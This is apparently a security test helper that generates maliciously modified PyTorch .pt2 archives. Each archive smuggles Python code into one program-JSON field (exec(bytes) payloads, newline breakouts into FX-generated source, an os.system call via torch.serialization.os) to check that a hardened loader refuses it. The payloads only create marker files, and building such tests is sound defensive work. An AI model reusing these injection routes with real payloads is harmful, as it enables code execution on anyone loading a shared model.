"""Code-injection variants of REAL archives: for every string field of the program JSON
that torch resolves or pastes into the Python source FX generates and execs, a copy of
the archive whose field carries code that creates a marker file (issue 27).

Each variant changes one field of one program, the way a hostile author would: the
rest of the archive stays as torch wrote it, so torch loads it as far as the field.
`live` says when plain torch runs the code: LOAD (`load_pt2`, torch.export.load's
archive reader, generates and execs the graph's code), CALL (`ExportedProgram.module()`
and a call of it with the archive's sample inputs), INTERPRET (torch.fx.Interpreter on
`ep.graph_module`, as check and profile run a graph: module() cannot compile a graph
holding a Python function as an argument, its repr is not code). Fields torch reads but sanitizes before codegen (a node's own
`name` field, for one, goes through FX's namespace) are variants with `live=None`: they
are still refused by our loader, which does not rely on torch's sanitizing.

The payload is a Python expression without dots, spaces or single quotes
(`exec(str(bytes([...]),"latin1"))`): torch's `register_module` refuses a name with a
dot, and pprint (FX_GRAPH_SHOW_META) splits strings at spaces. Each name-field payload
closes the construct the name sits in, puts the payload on a line of its own at
module level, and opens `def _f(*a, **k):` so the rest of the generated function
still compiles as its body: the code then runs when FX execs the source, at load.

Used by tests/security/test_injection.py and test_injection_buttons.py.
"""

from __future__ import annotations

import copy
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import orjson

LOAD, CALL, INTERPRET = "load", "call", "interpret"


def payload(marker: Path) -> str:
    """A dot-free, space-free, single-quote-free expression that creates `marker`."""
    code = f"open({str(marker)!r},'w').close()".encode()
    return f'exec(str(bytes([{",".join(map(str, code))}]),"latin1"))'


def breakout(prefix: str, marker: Path) -> str:
    """`prefix` closes the construct the name is pasted into (and keeps the statement
    from failing before the payload: `... if 0 else 0`); then the payload runs on a
    line of its own, and a nested def takes the rest of that line as its body. FX
    indents every line it writes, so this runs when the module is called."""
    return f"{prefix} if 0 else 0\n{payload(marker)}\ndef _f(*a, **k):\n    pass  #"


@dataclass
class Variant:
    base: str  # the real archive it was made from
    program: str
    field: str  # the JSON field, as the loader's error names it
    live: str | None  # LOAD / MODULE / CALL, or None: torch sanitizes it
    path: Path
    marker: Path
    env: dict[str, str] | None = None  # environment plain torch needs to run it

    @property
    def id(self) -> str:
        return f"{self.base}:{self.field}"


# --- the program JSON ------------------------------------------------------------------

def _graph(doc: dict[str, Any]) -> dict[str, Any]:
    return doc["graph_module"]["graph"]


def _user_tensor(doc: dict[str, Any]) -> str | None:
    """The name of a user-input tensor of the program (a placeholder)."""
    for spec in doc["graph_module"]["signature"]["input_specs"]:
        arg = spec.get("user_input", {}).get("arg", {})
        if "as_tensor" in arg:
            return arg["as_tensor"]["name"]
    return None


def _any_tensor(doc: dict[str, Any]) -> str:
    name = _user_tensor(doc)
    if name is not None:
        return name
    for spec in doc["graph_module"]["signature"]["input_specs"]:
        for body in spec.values():
            arg = body.get("arg", {}) if isinstance(body, dict) else {}
            if isinstance(arg.get("name"), str):
                return arg["name"]
    raise LookupError("the program has no tensor input")


def _insert_first(doc: dict[str, Any], node: dict[str, Any]) -> None:
    _graph(doc)["nodes"].insert(0, node)


def _node(target: str, inputs: list[dict[str, Any]], outputs: list[dict[str, Any]],
          name: str) -> dict[str, Any]:
    return {"target": target, "inputs": inputs, "outputs": outputs, "metadata": {},
            "is_hop_single_tensor_return": None, "name": name}


def _pos(arg: dict[str, Any]) -> dict[str, Any]:
    return {"name": "", "arg": arg, "kind": 1}


_EMPTY_GRAPH = {"inputs": [], "outputs": [], "nodes": [], "tensor_values": {},
                "sym_int_values": {}, "sym_bool_values": {}, "is_single_tensor_return": False,
                "custom_obj_values": {}, "sym_float_values": {}}


# Each maker changes `doc` (and may return config changes: {fqn_old: fqn_new} for the
# weights config), given the marker; returns None when the program has no such field.
Maker = Callable[[dict[str, Any], Path], "dict[str, str] | bool | None"]


def _operator_argument(doc: dict[str, Any], marker: Path) -> bool:
    """Critical 1: wrap(func, *args) calls func(*args); torch resolves the as_operator
    string by attribute lookup from `torch`."""
    _insert_first(doc, _node("torch.ops.higher_order.wrap", [
        _pos({"as_operator": "torch.serialization.os.system"}),
        _pos({"as_string": f"touch {marker}"})], [{"as_none": True}], "wrap_injected"))
    return True


def _keyword_name(doc: dict[str, Any], marker: Path) -> bool:
    """Critical 2a: a higher-order op's keyword name: FX writes f"{name} = {value}"."""
    _insert_first(doc, _node("torch.ops.higher_order.wrap", [
        _pos({"as_operator": "torch.ops.aten.relu.default"}),
        {"name": breakout("a = 0)", marker), "arg": {"as_int": 1}, "kind": 2}],
        [{"as_none": True}], "wrap_injected"))
    return True


def _subgraph_name(doc: dict[str, Any], marker: Path) -> bool:
    """Critical 2b: an as_graph argument's name: FX writes getattr(self, "NAME")."""
    _insert_first(doc, _node("torch.ops.higher_order.wrap", [
        _pos({"as_graph": {"name": breakout('x")', marker), "graph": copy.deepcopy(_EMPTY_GRAPH)}})],
        [{"as_none": True}], "wrap_injected"))
    return True


def _value_name(doc: dict[str, Any], marker: Path) -> bool:
    """A node's output name: torch sets the FX node's name to it unsanitized, but
    `Graph.python_code` prints every node through a fresh namespace (create_name): not
    a route in torch 2.13 (FX's record_func path writes `_rf_{node.name}` raw)."""
    src = _any_tensor(doc)
    graph = _graph(doc)
    name = breakout("a = 0", marker)
    graph["tensor_values"][name] = copy.deepcopy(graph["tensor_values"][src])
    _insert_first(doc, _node("torch.ops.aten.relu.default",
                             [{"name": "self", "arg": {"as_tensor": {"name": src}}, "kind": 1}],
                             [{"as_tensor": {"name": name}}], "relu_injected"))
    return True


def _node_name(doc: dict[str, Any], marker: Path) -> bool:
    """A node's own `name` field: FX's namespace sanitizes it (create_node), and the
    output's name replaces it: not a route in torch 2.13, refused all the same."""
    nodes = _graph(doc)["nodes"]
    if not nodes:
        return False
    nodes[0]["name"] = breakout("a = 0", marker)
    return True


def _placeholder_name(doc: dict[str, Any], marker: Path) -> bool:
    """A graph input's name: FX writes the def line `def forward(self, ..., NAME):`
    (a default value runs when the def runs, at exec)."""
    src = _any_tensor(doc)
    graph = _graph(doc)
    name = f"x={payload(marker)}"
    graph["tensor_values"][name] = copy.deepcopy(graph["tensor_values"][src])
    graph["inputs"].append({"as_tensor": {"name": name}})
    doc["graph_module"]["signature"]["input_specs"].append(
        {"user_input": {"arg": {"as_tensor": {"name": name}}}})
    return True


def _parameter_fqn(doc: dict[str, Any], marker: Path) -> dict[str, str] | None:
    """A parameter's FQN: module() registers it and FX writes getattr(self.a, "PART")."""
    for spec in doc["graph_module"]["signature"]["input_specs"]:
        if "parameter" in spec:
            old = spec["parameter"]["parameter_name"]
            head = old.rsplit(".", 1)[0] + "." if "." in old else ""
            new = head + breakout('x")', marker)
            spec["parameter"]["parameter_name"] = new
            return {old: new}
    return None


def _forward_arg_name(doc: dict[str, Any], marker: Path) -> bool:
    """module()'s def line takes the module call graph's forward_arg_names; FX also
    writes them into a list (`tree_flatten_spec([NAMES], ...)`), and no text found
    compiles in both places: refused, not shown live."""
    entries = doc["graph_module"].get("module_call_graph") or []
    sig = entries[0].get("signature") if entries else None
    if not sig or not sig.get("forward_arg_names"):
        return False
    sig["forward_arg_names"][-1] = f"x={payload(marker)}"
    return True


def _source_fn_target(doc: dict[str, Any], marker: Path) -> bool:
    """source_fn_stack targets: torch resolves them by attribute lookups from torch
    (properties and lazy imports run, the result only lands in node.meta): refused."""
    for node in _graph(doc)["nodes"]:
        meta = node.setdefault("metadata", {})
        meta["source_fn_stack"] = f"x,torch.serialization.os.system({str(marker)!r})"
        return True
    return False


FIELDS: dict[str, tuple[str | None, Maker]] = {
    "operator argument": (INTERPRET, _operator_argument),
    "keyword name": (CALL, _keyword_name),
    "subgraph name": (CALL, _subgraph_name),
    "value name": (None, _value_name),
    "placeholder name": (LOAD, _placeholder_name),
    "parameter name": (CALL, _parameter_fqn),
    "node name": (None, _node_name),
    "forward argument name": (None, _forward_arg_name),
    "source_fn_stack": (None, _source_fn_target),
}


# --- archives ----------------------------------------------------------------------------

def program_records(path: Path) -> dict[str, str]:
    """program name -> zip entry of its JSON."""
    with zipfile.ZipFile(path) as z:
        return {Path(n).stem: n for n in z.namelist()
                if "/models/" in n and n.endswith(".json")}


def _rewrite(src: Path, dst: Path, program: str, maker: Maker, marker: Path) -> bool:
    entry = program_records(src)[program]
    with zipfile.ZipFile(src) as zin:
        doc = orjson.loads(zin.read(entry))
        made = maker(doc, marker)
        if not made:
            return False
        renames = made if isinstance(made, dict) else {}
        top = entry[: entry.index("models/")]
        weights = f"{top}data/weights/{program}_weights_config.json"
        with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
            for info in zin.infolist():
                data = zin.read(info.filename)
                if info.filename == entry:
                    data = orjson.dumps(doc)
                elif info.filename == weights and renames:
                    config = orjson.loads(data)
                    config["config"] = {renames.get(k, k): v for k, v in config["config"].items()}
                    data = orjson.dumps(config)
                zout.writestr(info.filename, data)
    return True


def variants(base: Path, label: str, out: Path, program: str | None = None,
             fields: list[str] | None = None) -> Iterator[Variant]:
    """One variant per field (of `fields`, default all) of one program of `base`."""
    names = program_records(base)
    program = program or sorted(names)[0]
    for field_name, (live, maker) in FIELDS.items():
        if fields is not None and field_name not in fields:
            continue
        slug = field_name.replace(" ", "-")
        work = out / f"{label.replace('/', '_')}-{slug}"
        work.mkdir(parents=True, exist_ok=True)
        marker = work / "marker"
        path = work / "variant.pt2"
        if _rewrite(base, path, program, maker, marker):
            yield Variant(label, program, field_name, live, path, marker)


# --- plain torch, the judge ------------------------------------------------------------

TORCH_CHILD = r"""
import sys, warnings
warnings.simplefilter("ignore")
path, program, until = sys.argv[1:4]
import torch
try:
    import transformers.modeling_outputs  # the toy's output types, as pytree nodes
except ImportError:
    pass
from torch.export.pt2_archive._package import load_pt2
try:
    ep = load_pt2(path).exported_programs[program]
    if until == "interpret":
        n = sum(1 for node in ep.graph_module.graph.nodes if node.op == "placeholder")
        torch.fx.Interpreter(ep.graph_module).run(*[None] * n)
    elif until != "load":
        args, kwargs = ep.example_inputs
        ep.module()(*args, **kwargs)
except Exception as exc:  # the code may have run before torch failed on what follows
    print(f"torch stopped: {type(exc).__name__}: {str(exc)[:200]}")
"""
